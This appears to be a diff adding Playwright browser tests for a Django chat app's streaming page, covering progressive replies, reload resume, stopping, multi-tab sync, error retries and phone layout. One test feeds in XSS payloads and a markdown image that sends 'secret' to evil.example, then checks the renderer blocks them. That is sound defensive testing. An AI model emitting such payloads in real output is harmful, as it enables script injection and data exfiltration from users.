@@ -1,0 +1,240 @@
+"""The chat page in Chromium against daphne, Postgres, Redis and the fake provider."""
+
+import re
+import time
+
+import pytest
+from playwright.sync_api import expect
+
+from conversations.models import Message, MessageStatus, Role
+from tests.conftest import save_screenshot
+from tests.factories import ChatModelFactory, ConversationFactory, UserFactory
+from tests.fake_provider import Reply
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+LAST_REPLY = "#messages [data-role=assistant]:last-child"
+
+
+@pytest.fixture
+def alice(db):
+    return UserFactory(username="alice")
+
+
+@pytest.fixture
+def conversation(alice):
+    return ConversationFactory(owner=alice, chat_model=ChatModelFactory(), title="Foxes")
+
+
+def open_chat(login, user, conversation, live_server_url, page=None):
+    page = login(user, page)
+    page.goto(f"{live_server_url}/c/{conversation.uuid}/")
+    expect(page.locator("body")).not_to_have_class(re.compile("is-offline"))
+    page.wait_for_function("document.querySelector('[ws-connect]') !== null")
+    page.wait_for_timeout(150)  # let the socket open and sync
+    return page
+
+
+def send(page, text: str) -> None:
+    box = page.locator("form#composer textarea[name=message]")
+    box.fill(text)
+    box.press("Enter")
+
+
+def reply_text(page) -> str:
+    return page.locator(f"{LAST_REPLY} .message-content").inner_text()
+
+
+def wait_for_status(page, status: str, timeout: float = 15_000) -> None:
+    expect(page.locator(LAST_REPLY)).to_have_attribute("data-status", status, timeout=timeout)
+
+
+def tokens(count: int, word: str = "word") -> list[str]:
+    return [f"{word}{i} " for i in range(count)]
+
+
+def test_reply_streams_in_progressively(login, conversation, alice, fake_provider, live_server_url):
+    fake_provider.script(Reply(content=tokens(40), tokens_per_second=25))
+    page = open_chat(login, alice, conversation, live_server_url)
+    send(page, "Tell me a story")
+    expect(page.locator("#messages [data-role=user]")).to_have_text("Tell me a story")
+    seen = set()
+    deadline = time.monotonic() + 15
+    while time.monotonic() < deadline:
+        seen.add(reply_text(page))
+        if page.locator(LAST_REPLY).get_attribute("data-status") == "complete":
+            break
+        page.wait_for_timeout(60)
+    wait_for_status(page, "complete")
+    assert len({s for s in seen if s}) >= 4, "several intermediate states were visible"
+    assert reply_text(page).strip() == "".join(tokens(40)).strip()
+    expect(page.locator("form#composer textarea[name=message]")).to_have_value("")
+    save_screenshot(page, "chat-desktop")
+
+
+def test_reload_mid_stream_resumes_without_gaps(
+    login, conversation, alice, fake_provider, live_server_url
+):
+    sent = tokens(120, "r")
+    fake_provider.script(Reply(content=sent, tokens_per_second=40))
+    page = open_chat(login, alice, conversation, live_server_url)
+    send(page, "Long answer please")
+    page.wait_for_function(
+        f"document.querySelector('{LAST_REPLY} .message-content')?.innerText.length > 60"
+    )
+    page.reload()
+    text_after_reload = reply_text(page)
+    assert text_after_reload, "the reloaded page shows the text generated so far"
+    wait_for_status(page, "complete", timeout=20_000)
+    assert reply_text(page).strip() == "".join(sent).strip()
+    reply = Message.objects.filter(role=Role.ASSISTANT).get()
+    assert reply.content == "".join(sent)
+
+
+def test_stop_keeps_the_text_the_user_saw(
+    login, conversation, alice, fake_provider, live_server_url
+):
+    fake_provider.script(Reply(content=tokens(300, "s"), tokens_per_second=30))
+    page = open_chat(login, alice, conversation, live_server_url)
+    send(page, "Go on forever")
+    page.wait_for_function(
+        f"document.querySelector('{LAST_REPLY} .message-content')?.innerText.length > 30"
+    )
+    expect(page.locator("#stop")).to_be_visible()
+    seen = reply_text(page).strip()
+    page.click("#stop")
+    wait_for_status(page, "cancelled")
+    fake_provider.wait_for_disconnect(timeout=5)
+    final = reply_text(page).strip()
+    assert final.startswith(seen) and len(final) >= len(seen)
+    reply = Message.objects.filter(role=Role.ASSISTANT).get()
+    assert reply.status == MessageStatus.CANCELLED and reply.content.strip() == final
+    expect(page.locator("#stop")).to_be_hidden()
+    # The composer works at once.
+    fake_provider.script(Reply(content="Back again."))
+    send(page, "Another")
+    wait_for_status(page, "complete")
+    assert reply_text(page).strip() == "Back again."
+
+
+def test_escape_stops_a_streaming_reply(login, conversation, alice, fake_provider, live_server_url):
+    fake_provider.script(Reply(content=tokens(300, "e"), tokens_per_second=30))
+    page = open_chat(login, alice, conversation, live_server_url)
+    send(page, "Go")
+    wait_for_status(page, "streaming")
+    page.keyboard.press("Escape")
+    wait_for_status(page, "cancelled")
+
+
+def test_two_tabs_see_the_same_reply(
+    login, conversation, alice, fake_provider, live_server_url, browser_context
+):
+    fake_provider.script(Reply(content=tokens(50, "t"), tokens_per_second=30))
+    first = open_chat(login, alice, conversation, live_server_url)
+    second = browser_context.new_page()
+    second.goto(f"{live_server_url}/c/{conversation.uuid}/")
+    second.wait_for_timeout(300)
+    send(first, "Both tabs")
+    expect(second.locator("#messages [data-role=user]")).to_have_text("Both tabs")
+    wait_for_status(second, "streaming")
+    wait_for_status(first, "complete")
+    wait_for_status(second, "complete")
+    assert reply_text(first) == reply_text(second)
+    assert reply_text(second).strip() == "".join(tokens(50, "t")).strip()
+
+
+def test_shift_enter_makes_a_newline_and_enter_sends(
+    login, conversation, alice, fake_provider, live_server_url
+):
+    page = open_chat(login, alice, conversation, live_server_url)
+    box = page.locator("form#composer textarea[name=message]")
+    box.type("line one")
+    box.press("Shift+Enter")
+    box.type("line two")
+    assert box.input_value() == "line one\nline two"
+    box.press("Enter")
+    expect(page.locator("#messages [data-role=user] .message-content")).to_have_text(
+        "line one\nline two"
+    )
+    wait_for_status(page, "complete")
+
+
+def test_new_conversation_starts_from_the_model_picker(
+    login, alice, fake_provider, live_server_url
+):
+    chat_model = ChatModelFactory()
+    fake_provider.script(Reply(content="Hello there."))
+    page = login(alice)
+    page.click("#new-conversation")
+    page.select_option("select[name=model]", str(chat_model.pk))
+    send(page, "First words")
+    page.wait_for_url(re.compile(r"/c/[0-9a-f-]+/$"))
+    wait_for_status(page, "complete")
+    assert reply_text(page).strip() == "Hello there."
+    assert fake_provider.chat_requests[-1].json["model"] == "fake-model"
+
+
+def test_finished_reply_is_markdown_and_cannot_run_script(
+    login, conversation, alice, fake_provider, live_server_url
+):
+    content = (
+        "# Title\n\n```python\nprint('hi')\n```\n\n"
+        '<script>window.pwned = 1</script><img src=x onerror="window.pwned=2">\n\n'
+        '[link](javascript:window.pwned=3) <button hx-get="/admin/">x</button>\n\n'
+        "![leak](https://evil.example/?q=secret)"
+    )
+    fake_provider.script(Reply(content=[content]))
+    page = open_chat(login, alice, conversation, live_server_url)
+    requests = []
+    page.on("request", lambda request: requests.append(request.url))
+    send(page, "Show me code")
+    wait_for_status(page, "complete")
+    body = page.locator(f"{LAST_REPLY} .message-content")
+    expect(body.locator("h1")).to_have_text("Title")
+    expect(body.locator("pre")).to_contain_text("print('hi')")
+    assert body.locator("script, img, button, [hx-get]").count() == 0
+    page.click(f"{LAST_REPLY} .message-content a", timeout=2000) if body.locator(
+        "a"
+    ).count() else None
+    assert page.evaluate("window.pwned") is None
+    assert not [url for url in requests if "evil.example" in url]
+
+
+@pytest.mark.parametrize(
+    "script,message",
+    [
+        ([Reply(status=401)], "API key"),
+        ([Reply(status=429, headers={"Retry-After": "0"})] * 3, "rate limiting"),
+        ([Reply(status=500, headers={"Retry-After": "0"})] * 3, "server error"),
+        ([Reply(content=tokens(20), stall_after=4, stall_seconds=10)], "timed out"),
+        ([Reply(content=tokens(20), disconnect_after=4)], "dropped"),
+        ([Reply(content="Half", finish_reason=None, send_done=False)], "without finishing"),
+        ([Reply(status=400, error_code="context_length_exceeded")], "context window"),
+        ([Reply(content="")], "empty reply"),
+    ],
+    ids=["401", "429", "5xx", "stall", "dropped", "no-finish", "context", "empty"],
+)
+def test_each_error_is_shown_in_place_with_retry(
+    login, conversation, alice, fake_provider, live_server_url, script, message
+):
+    fake_provider.script(*script)
+    page = open_chat(login, alice, conversation, live_server_url)
+    send(page, "Will this work?")
+    reply = page.locator(LAST_REPLY)
+    expect(reply.locator(".message-error")).to_contain_text(message, timeout=20_000)
+    assert reply.get_attribute("data-status") in {"failed", "interrupted"}
+    expect(page.locator("#messages [data-role=user]")).to_have_text("Will this work?")
+    fake_provider.script(Reply(content="Recovered."))
+    reply.locator("button", has_text="Retry").click()
+    expect(page.locator(LAST_REPLY)).to_have_attribute("data-status", "complete", timeout=15_000)
+    assert reply_text(page).strip() == "Recovered."
+
+
+def test_phone_width_layout(login, conversation, alice, fake_provider, live_server_url, browser):
+    context = browser.new_context(viewport={"width": 390, "height": 844})
+    page = open_chat(login, alice, conversation, live_server_url, page=context.new_page())
+    send(page, "Hi from a phone")
+    wait_for_status(page, "complete")
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    save_screenshot(page, "chat-phone")
+    context.close()
